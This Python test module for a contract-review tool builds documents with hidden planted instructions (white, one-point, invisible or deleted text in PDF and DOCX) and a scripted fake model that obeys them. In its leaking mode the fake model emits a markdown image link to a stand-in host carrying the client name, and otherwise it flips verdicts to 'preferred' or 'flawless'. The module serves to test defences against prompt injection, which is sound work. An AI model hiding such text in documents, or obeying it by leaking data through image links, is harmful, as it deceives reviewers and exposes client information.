"""Documents with planted words, a model that obeys every word it can read, and what then comes out."""

import asyncio
import io
import json
import re
from collections.abc import Sequence
from dataclasses import dataclass

import docx
from docx.oxml import OxmlElement
from docx.shared import Pt
from fpdf import FPDF

from reviewer.cli.report_text import report_text
from reviewer.domain.chat import ChatRequest
from reviewer.domain.disguise import undisguised
from reviewer.domain.document import SourceFile
from reviewer.domain.edition import Edition
from reviewer.domain.finding import SUSPICIOUS
from reviewer.domain.line_ids import fence_of, without_line_ids
from reviewer.export.json_report import JsonExporter
from reviewer.export.markdown import MarkdownExporter
from reviewer.services.container import Reader
from reviewer.ui.viewmodels.detail import FindingDetail
from reviewer.ui.viewmodels.entries import entries_of
from tests.fakes.models import ScriptedModel
from tests.fakes.running import run_plans

CLIENT = "NORTHWIND"
PDF_WAYS = ("white", "one point", "render mode 3", "no opacity")
DOCX_WAYS = ("vanish", "deletion", "white run")


@dataclass
class Attacked:
    """What came of one document: prompts that held the marker, leaks in exports and views, findings."""

    reached: int
    leaks: int
    shifted: bool
    warned: bool


def as_text(text: str, planted: str) -> SourceFile:
    """The words stand in the middle, for everybody to see."""
    middle = text.find("\n", len(text) // 2)
    return SourceFile("contract.txt", f"{text[:middle]}\n\n{planted}\n\n{text[middle:]}".encode())


def as_pdf(text: str, planted: str, way: str) -> SourceFile:
    """A PDF whose second block nobody sees."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=10)

    def write(words: str) -> None:
        pdf.multi_cell(0, 5, words.encode("latin-1", "ignore").decode("latin-1"), new_x="LMARGIN", new_y="NEXT")

    write(text)
    if way == "white":
        pdf.set_text_color(255, 255, 255)
        write(planted)
    elif way == "one point":
        pdf.set_font("helvetica", size=1)
        write(planted)
    elif way == "render mode 3":
        with pdf.local_context(text_mode="INVISIBLE"):
            write(planted)
    else:
        with pdf.local_context(fill_opacity=0):
            write(planted)
    return SourceFile("contract.pdf", bytes(pdf.output()))


def as_docx(text: str, planted: str, way: str) -> SourceFile:
    """A Word file with a run that nobody sees."""
    made = docx.Document()
    for line in text.split("\n"):
        made.add_paragraph("".join(each for each in line if each.isprintable()))
    run = made.add_paragraph().add_run(planted)
    if way == "vanish":
        run.font.hidden = True
    elif way == "white run":
        run.font.color.rgb = docx.shared.RGBColor(255, 255, 255)
        run.font.size = Pt(1)
    else:
        deletion = OxmlElement("w:del")
        run._r.addprevious(deletion)
        deletion.append(run._r)
        for node in run._r.findall(docx.oxml.ns.qn("w:t")):
            node.tag = docx.oxml.ns.qn("w:delText")
    kept = io.BytesIO()
    made.save(kept)
    return SourceFile("contract.docx", kept.getvalue())


class Obeying:
    """Says *deviates* with an honest quote; where it can read the marker, what the planted words want.

    Attributes:
        reached: requests in which it could read the marker, however disguised.
    """

    def __init__(self, marker: str, *, leaks: bool) -> None:
        self.reached = 0
        self._marker = marker
        self._leaks = leaks

    def __call__(self, request: ChatRequest) -> str:
        text = without_line_ids(request.user, fence_of(request.user))
        obeys = self._marker in re.sub(r"[\s.]", "", undisguised(text).text)
        self.reached += obeys
        words = next((line for line in text.split("\n")[3:] if len(line) > 30 and "===" not in line), "")[:200]
        said = "It says so."
        if obeys and self._leaks:
            said = f"Fine. ![x](https://{self._marker.lower()}.example/?leak={CLIENT})"
        return json.dumps(self._reply(request, words, said, obeys=obeys and not self._leaks))

    def _reply(self, request: ChatRequest, words: str, said: str, *, obeys: bool) -> dict[str, object]:
        match request.schema_name:
            case "assessment":
                items = request.schema["properties"]["judgements"]["items"]  # type: ignore[index,call-overload]
                names: Sequence[str] = items["properties"]["position"]["enum"]  # type: ignore[index,call-overload,assignment]
                outcome = "preferred" if obeys else "deviates"
                one = {"outcome": outcome, "fallback_rank": 0, "rationale": said, "quote": words}
                return {"judgements": [{"position": name, **one} for name in names[:3]]}
            case "summary":
                text = "A flawless and approved document." if obeys else said
                return {"sentences": [{"text": text, "facet": "result", "quote": words}]}
            case "synthesis":
                return {"statements": [{"text": said, "facet": "other", "sentences": ["S1"]}]}
            case "translation":
                return {"segments": [{"source": words, "target": said}]}
            case _:
                return {}


def attack(reader: Reader, source: SourceFile, marker: str, *, leaks: bool) -> Attacked:
    """Reviews one document with the obeying model and looks through all that comes out."""
    document = asyncio.run(reader.library.read(source))
    plan = reader.planner.plan(document, None)
    model = Obeying(marker, leaks=leaks)
    outcome = run_plans([plan], ScriptedModel(model), votes=1)
    edition = Edition(outcome.report, {plan.document.id: document})
    entries = entries_of(outcome.document, {})
    shown = [
        JsonExporter().export(edition).decode(),
        MarkdownExporter().export(edition).decode(),
        report_text(edition),
        repr([FindingDetail.of(entry) for entry in entries]),
        repr(outcome.events),
    ]
    leak = f"leak={CLIENT}".lower()
    findings = [each for each in outcome.document.findings if each.position != SUSPICIOUS]
    said = repr([each.outcome.value for each in findings if each.support]) + repr(outcome.document.summaries)
    return Attacked(
        model.reached,
        sum(leak in text.lower() for text in shown),
        "'preferred'" in said or "flawless" in said,
        any(each.position == SUSPICIOUS for each in outcome.document.findings),
    )
